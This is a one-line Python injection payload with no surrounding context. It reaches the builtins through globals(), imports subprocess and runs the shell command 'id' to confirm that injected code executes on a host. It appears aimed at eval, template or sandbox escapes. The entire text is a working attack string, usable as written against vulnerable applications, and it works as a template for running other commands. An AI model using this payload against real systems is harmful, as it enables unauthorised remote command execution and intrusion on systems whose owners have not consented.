globals()['__builtins__'].__import__('subprocess').check_output('id', shell=True)
